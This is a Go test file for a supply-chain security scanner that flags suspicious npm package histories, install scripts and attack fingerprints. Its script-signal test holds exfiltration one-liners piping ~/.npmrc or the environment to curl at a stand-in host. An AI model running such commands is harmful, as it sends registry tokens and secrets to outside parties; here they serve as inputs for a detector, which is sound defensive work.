package analysis

import (
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/chainlock/chainlock"
	"github.com/chainlock/chainlock/registry"
)

func TestTimelineSignals(t *testing.T) {
	now := time.Date(2026, 8, 20, 0, 0, 0, 0, time.UTC)
	releases := func(offsets ...time.Duration) []registry.Release {
		out := make([]registry.Release, len(offsets))
		for i, off := range offsets {
			out[i] = registry.Release{
				Version:    "1.0." + string(rune('0'+i)),
				ReleasedAt: now.Add(-off),
			}
		}
		return out
	}

	tt := []struct {
		name string
		hist registry.History
		want []string
	}{
		{
			name: "steady cadence",
			hist: registry.History{Releases: releases(90*24*time.Hour, 60*24*time.Hour, 30*24*time.Hour)},
			want: nil,
		},
		{
			name: "three releases inside two days",
			hist: registry.History{Releases: releases(40*time.Hour, 20*time.Hour, time.Hour)},
			want: []string{SignalRapidRelease},
		},
		{
			name: "release after a year of dormancy",
			hist: registry.History{Releases: releases(400*24*time.Hour, time.Hour)},
			want: []string{SignalDormantThenActive, SignalMaintainerChange},
		},
		{
			name: "single release has no cadence",
			hist: registry.History{Releases: releases(time.Hour)},
			want: nil,
		},
	}
	for _, tc := range tt {
		t.Run(tc.name, func(t *testing.T) {
			set := make(map[string]struct{})
			timelineSignals(&tc.hist, set)
			for _, sig := range tc.want {
				if _, ok := set[sig]; !ok {
					t.Errorf("missing signal %q: %v", sig, set)
				}
			}
			if len(set) != len(tc.want) {
				t.Errorf("got %d signals, want %d: %v", len(set), len(tc.want), set)
			}
		})
	}
}

func TestDependencySignals(t *testing.T) {
	hist := registry.History{
		Releases: []registry.Release{
			{Version: "1.0.0"},
			{Version: "1.1.0"},
		},
		DependenciesByVersion: map[string]map[string]string{
			"1.0.0": {"lodash": "^4.0.0"},
			"1.1.0": {"lodash": "^4.0.0", "axios": "^1.0.0"},
		},
	}
	set := make(map[string]struct{})
	dependencySignals(&hist, set)
	if _, ok := set[SignalDependencyAdded]; !ok {
		t.Error("new dependency not observed")
	}
	if _, ok := set[SignalNetworkDepAdded]; !ok {
		t.Error("axios not recognised as a network dependency")
	}
}

func TestScriptSignals(t *testing.T) {
	tt := []struct {
		cmd  string
		want []string
	}{
		{`node -e "setTimeout(run, 86400000)"`, []string{SignalDelayedActivation}},
		{`cat ~/.npmrc | curl -d @- http://x.example`, []string{SignalCredentialAccess}},
		{`env | curl -d @- http://x.example`, []string{SignalEnvHarvesting}},
		{`node -e "JSON.stringify(process.env)"`, []string{SignalEnvHarvesting}},
		{`tsc --build`, nil},
	}
	for _, tc := range tt {
		set := make(map[string]struct{})
		scriptSignals(tc.cmd, set)
		for _, sig := range tc.want {
			if _, ok := set[sig]; !ok {
				t.Errorf("%q: missing %q in %v", tc.cmd, sig, set)
			}
		}
		if len(set) != len(tc.want) {
			t.Errorf("%q: got %v, want %v", tc.cmd, set, tc.want)
		}
	}
}

func TestBestFingerprint(t *testing.T) {
	name, overlap := bestFingerprint([]string{
		SignalMaintainerChange,
		SignalDependencyAdded,
		SignalCredentialAccess,
		SignalEnvHarvesting,
	})
	if name != "injected-credential-stealer" {
		t.Errorf("fingerprint: got: %q", name)
	}
	if overlap != 1.0 {
		t.Errorf("overlap: got: %v, want: 1.0", overlap)
	}

	// A partial overlap still names the nearest shape.
	name, overlap = bestFingerprint([]string{SignalCredentialAccess, SignalEnvHarvesting})
	if name == "" || overlap <= 0 {
		t.Errorf("partial: got: (%q, %v)", name, overlap)
	}
	if overlap >= 1.0 {
		t.Errorf("partial overlap too high: %v", overlap)
	}

	if _, overlap := bestFingerprint(nil); overlap != 0 {
		t.Errorf("empty signals: got overlap %v", overlap)
	}
}

func TestLikelihoodLadder(t *testing.T) {
	tt := []struct {
		signals int
		overlap float64
		want    AttackLikelihood
	}{
		{4, 1.0, LikelihoodCritical},
		{3, 0.5, LikelihoodHigh},
		{2, 0.4, LikelihoodMedium},
		{2, 0.1, LikelihoodLow},
		{1, 0.0, LikelihoodLow},
		{0, 0.0, LikelihoodNone},
	}
	for _, tc := range tt {
		if got := likelihoodFor(tc.signals, tc.overlap); got != tc.want {
			t.Errorf("likelihoodFor(%d, %v): got: %v, want: %v", tc.signals, tc.overlap, got, tc.want)
		}
	}
	// Severity tracks likelihood monotonically.
	var prev = severityFor(LikelihoodNone)
	for _, l := range []AttackLikelihood{LikelihoodLow, LikelihoodMedium, LikelihoodHigh, LikelihoodCritical} {
		cur := severityFor(l)
		if cur < prev {
			t.Errorf("severity regressed at %v", l)
		}
		prev = cur
	}
}

func TestSupplyChainSkip(t *testing.T) {
	sc := NewSharedContext("/proj", chainlock.NPM)
	var st SupplyChainStage
	if skip, _ := st.Skip(sc); !skip {
		t.Error("stage ran with no high-risk packages")
	}
	sc.MarkHighRisk(chainlock.PackageRef{Name: "evil", Version: "1.0.0", Ecosystem: chainlock.NPM}, "rule finding")
	if skip, _ := st.Skip(sc); skip {
		t.Error("stage skipped with a high-risk package present")
	}
}

func TestFingerprintTableSignalsAreKnown(t *testing.T) {
	known := map[string]struct{}{
		SignalMaintainerChange:  {},
		SignalRapidRelease:      {},
		SignalDormantThenActive: {},
		SignalDependencyAdded:   {},
		SignalNetworkDepAdded:   {},
		SignalDelayedActivation: {},
		SignalCredentialAccess:  {},
		SignalEnvHarvesting:     {},
	}
	for _, fp := range fingerprints {
		var unknown []string
		for _, s := range fp.signals {
			if _, ok := known[s]; !ok {
				unknown = append(unknown, s)
			}
		}
		if unknown != nil {
			t.Error(cmp.Diff(unknown, []string(nil)), fp.name)
		}
	}
}
